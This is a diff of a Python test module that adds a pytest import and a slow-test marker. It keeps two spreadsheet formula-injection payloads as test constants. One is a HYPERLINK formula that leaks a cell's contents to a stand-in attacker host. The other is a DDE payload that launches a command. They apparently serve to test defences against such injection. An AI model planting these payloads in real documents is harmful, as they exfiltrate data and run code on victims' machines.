@@ -9,11 +9,14 @@ import re
 import zipfile
 from pathlib import Path
 
+import pytest
 from formkit import good_answers
 from prepared import Templates
 from relkit import caseaudit, fill, manifest, manifests, output_dir, real_month, rezip, xml_parts
 
 from caseaudit_batch import session
+
+pytestmark = pytest.mark.slow  # real allocate, ingest and report runs as child processes
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"ZQFORMULA the child is safe")'
 DDE = "=cmd|' /C calc'!A0 ZQFORMULA"
